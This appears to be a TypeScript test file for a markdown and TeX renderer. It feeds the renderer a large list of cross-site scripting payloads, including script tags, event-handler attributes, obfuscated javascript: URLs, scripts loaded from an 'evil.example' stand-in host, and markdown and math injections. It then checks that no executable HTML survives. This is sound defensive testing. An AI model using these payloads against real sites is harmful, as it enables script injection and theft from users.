import fc from 'fast-check';
import { fromHtmlIsomorphic } from 'hast-util-from-html-isomorphic';
import { visit } from 'unist-util-visit';
import { expect, test } from 'vitest';
import { readPage } from '../../src/content/page.ts';
import { guideFields } from '../../src/content/parse-guide.ts';
import { createRenderer } from '../../src/content/render.ts';
import { NAMES } from '../../testbed/packs/own-pack.ts';

const ELEMENTS = new Set(
  (
    'p a em strong del code pre span br hr h1 h2 h3 h4 h5 h6 ul ol li blockquote table thead tbody tr th td img input sup ' +
    'section math mrow mi mn mo ms mtext mspace msup msub msubsup mfrac msqrt mroot mover munder munderover mtable mtr mtd ' +
    'mpadded mphantom mstyle menclose merror mprescripts mmultiscripts semantics annotation none'
  ).split(' '),
);
const SCHEMES = new Set(['http:', 'https:', 'mailto:']);

function toHtml(markdown: string): string {
  const page = readPage(guideFields(NAMES), { file: 'guides/hostile.md', text: `\n${markdown}` }, () => {});
  return createRenderer(page, { references: new Map(), targets: new Map() }).blocks(page.body).html;
}

/** What a browser's parser (parse5 follows the HTML standard) finds in the HTML that should not be there. */
function dangersIn(html: string): string[] {
  const found: string[] = [];
  visit(fromHtmlIsomorphic(html, { fragment: true }), (node) => {
    if (node.type === 'comment' || node.type === 'doctype') found.push(node.type);
    if (node.type !== 'element') return;
    if (!ELEMENTS.has(node.tagName)) found.push(`<${node.tagName}>`);
    for (const [name, value] of Object.entries(node.properties)) {
      if (/^on|^(style|srcDoc|action|formAction|srcSet|ping|xLinkHref|background|data)$/i.test(name))
        found.push(name);
      if (!/^(href|src|cite|longDesc)$/.test(name)) continue;
      const [address, base] = [String(value), 'https://page.example/a/b'];
      // What no browser can resolve leads nowhere.
      if (!URL.canParse(address, base)) continue;
      const { protocol } = new URL(address, base);
      if (!SCHEMES.has(protocol)) found.push(`${name}=${protocol}`);
    }
  });
  return found;
}

const RAW_HTML = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<script\n>alert(1)</script\n>',
  '<<script>alert(1)//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img/src/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><maction actiontype="statusline#http://evil" xlink:href="javascript:alert(1)">x</maction></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css"; * { display: none }</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div style="position:fixed;inset:0">x</div>',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<button formaction="javascript:alert(1)">go</button>',
  '<input autofocus onfocus=alert(1)>',
  '<select onfocus=alert(1) autofocus><option>x</select>',
  '<textarea onfocus=alert(1) autofocus></textarea>',
  '<video><source onerror=alert(1)></video>',
  '<video src=x onloadstart=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<html onclick=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<title><img src=x onerror=alert(1)></title>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><?php alert(1) ?>',
  '<!DOCTYPE x [<!ENTITY e "<script>">]>&e;',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="#" onclick="alert(1)">x</a>',
  '<a id="constructor" name="__proto__">x</a>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img srcset="x 1x, javascript:alert(1) 2x">',
  '<picture><source srcset="//evil.example/x"></picture>',
  '<table background="javascript:alert(1)"><tr><td>x</table>',
  '<isindex action=javascript:alert(1) type=submit>',
  '<keygen autofocus onfocus=alert(1)>',
];

const URLS = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java&#10;script:alert(1)',
  'java&Tab;script:alert(1)',
  'java&NewLine;script:alert(1)',
  '&#1;javascript:alert(1)',
  '&#x6A;avascript:alert(1)',
  '&#0000106avascript:alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  'javascript&#x3a;alert(1)',
  'javascript%3Aalert(1)',
  'javascript://example.org/%0Aalert(1)',
  'javascript:/*-->*/alert(1)',
  'vbscript:msgbox(1)',
  'livescript:alert(1)',
  'mocha:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml;base64,PHN2Zy8+',
  'data:application/xhtml+xml,x',
  'blob:https://example.org/1',
  'filesystem:https://example.org/x',
  'file:///etc/passwd',
  'ftp://example.org/',
  'feed:javascript:alert(1)',
  'view-source:javascript:alert(1)',
  'jar:javascript:alert(1)!/',
  'about:blank',
  'chrome://settings',
  'ws://example.org/',
  'irc://example.org/',
  'xmpp:a@example.org',
  'tel:123',
  'sms:123',
  'intent://x#Intent;scheme=javascript;end',
  'ms-word:ofe|u|https://example.org',
  'steam://run/1',
  'https&colon;javascript:alert(1)',
  'http:javascript:alert(1)',
  '//evil.example/',
  '\\\\evil.example\\x',
  '/\\evil.example',
  '?javascript:alert(1)',
  '#javascript:alert(1)',
  './javascript:alert(1)',
  'x:y',
  ':javascript:alert(1)',
  '\u0000javascript:alert(1)',
  '\u00a0javascript:alert(1)',
  '\u2028javascript:alert(1)',
  '\ufeffjavascript:alert(1)',
  'ｊavascript:alert(1)',
  'javaſcript:alert(1)',
  'https://example.org/"onmouseover="alert(1)',
  "https://example.org/'onmouseover='alert(1)",
  'https://example.org/><script>alert(1)</script>',
  'mailto:a@example.org?body=<script>',
];

const MARKDOWN = [
  '[x](https://example.org "a\\" onmouseover=alert(1) b")',
  "![x](https://example.org/x.png '\" onerror=alert(1) ')",
  '![" onerror="alert(1)](x)',
  '![<script>alert(1)</script>](x)',
  '[<img src=x onerror=alert(1)>](https://example.org)',
  '[x]: javascript:alert(1)\n\n[x] [x][] ![x]',
  '[x]: <javascript:alert(1)> "t"\n\n[y][x]',
  '[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))',
  '[^<script>]\n\n[^<script>]: x',
  '[^"onclick=alert(1)]\n\n[^"onclick=alert(1)]: x',
  '[^__proto__]\n\n[^__proto__]: x',
  '```"><script>alert(1)</script>\nx\n```',
  '```python onload=alert(1)\n</code></pre><script>alert(1)</script>\n```',
  '```js" onmouseover="alert(1)\nx\n```',
  '```language-math\nx\n```',
  '``</code><script>alert(1)</script>``',
  '| <script> | b |\n| --- | --- |\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |',
  '- [ ] <input onfocus=alert(1) autofocus>\n- [x] y',
  '# <script>alert(1)</script>',
  '## x {onclick=alert(1)}',
  '> <iframe src=javascript:alert(1)>',
  '[@<script>]',
  '[@a" onclick="alert(1)]',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\<script>alert(1)\\</script>',
  '<https://example.org/"onclick="alert(1)>',
  'www.example.org/"><script>alert(1)</script>',
  'https://example.org/<script>alert(1)</script>',
  'a@example.org"onclick="alert(1)',
  '***<b onmouseover=alert(1)>x</b>***',
  '<div>\n\n[x](javascript:alert(1))\n\n</div>',
  '</p></div></body></html><script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  '#{alert(1)}',
  '\u202e<script>alert(1)</script>',
];

const TEX = [
  '\\href{javascript:alert(1)}{x}',
  '\\url{javascript:alert(1)}',
  '\\includegraphics{//evil.example/x.png}',
  '\\class{x" onclick="alert(1)}{y}',
  '\\id{x}{y}',
  '\\style{background:url(//evil.example)}{y}',
  '\\data{onclick=alert(1)}{y}',
  '\\htmlData{a=b}{y}',
  '\\htmlStyle{color:red}{y}',
  '\\text{<script>alert(1)</script>}',
  '\\text{</math><img src=x onerror=alert(1)>}',
  '\\text{</mtext><style><img src=x onerror=alert(1)></style>}',
  '\\color{red;background:url(//evil.example)}{x}',
  '\\color{#fff" onclick="alert(1)}{x}',
  '\\colorbox{red" onload="x}{y}',
  '\\unicode{x3c}script\\unicode{x3e}',
  '\\operatorname{<svg onload=alert(1)>}',
  '\\mathrm{\\&lt;script\\&gt;}',
  '\\def\\x{\\x\\x}\\x',
  '\\bad{<img src=x onerror=alert(1)>}',
  '<img src=x onerror=alert(1)>',
  '\\rule{999999999em}{1em}',
  '\\tag{<script>alert(1)</script>} x',
  '\\label{<script>} x',
];

const PAYLOADS = [
  ...RAW_HTML,
  ...RAW_HTML.slice(0, 12).map((html) => `Inline ${html} html`),
  ...URLS.map((url) => `[x](${url})`),
  ...URLS.map((url) => `[x](<${url}>) ![x](<${url}>) <${url}>\n\n[d]\n\n[d]: <${url}>`),
  ...MARKDOWN,
  ...TEX.map((tex) => `$${tex}$\n\n$$\n${tex}\n$$`),
];

test(`${PAYLOADS.length} hostile payloads leave nothing that acts`, () => {
  expect(PAYLOADS.length).toBeGreaterThanOrEqual(200);
  expect(
    PAYLOADS.flatMap((payload) => dangersIn(toHtml(payload)).map((danger) => [payload, danger])),
  ).toEqual([]);
});

test('what is allowed stays', () => {
  const html = toHtml(
    '[a](https://example.org/?a=1&b=2) [b](mailto:a@example.org) [c](../x/y.md) `<script>`',
  );
  expect(html).toContain('href="https://example.org/?a=1&#x26;b=2"');
  expect(html).toContain('href="mailto:a@example.org"');
  expect(html).toContain('href="../x/y.md"');
  expect(html).toContain('<code>&#x3C;script></code>');
});

test('nor does any mixture of them', () => {
  const pieces = [
    ...PAYLOADS.map((payload) => payload.slice(0, 40)),
    '`',
    '```',
    '$',
    '$$',
    '[',
    '](',
    ')',
    '<',
    '>',
    '\n',
    '\n\n',
    '> ',
    '- ',
    '|',
    '"',
    '&',
    '*',
    '[^1]: ',
  ];
  const mixture = fc.array(fc.oneof(fc.constantFrom(...pieces), fc.string({ maxLength: 5 })), {
    maxLength: 12,
  });
  fc.assert(
    fc.property(mixture, (parts) => {
      expect(dangersIn(toHtml(parts.join('')))).toEqual([]);
    }),
    { numRuns: 500 },
  );
});

test('the checker sees what it looks for', () => {
  const html = '<script></script><p onclick="x" style="y"><a href="java\nscript:x">x</a><!-- c --></p>';
  expect(dangersIn(html)).toEqual(['<script>', 'onClick', 'style', 'href=javascript:', 'comment']);
});
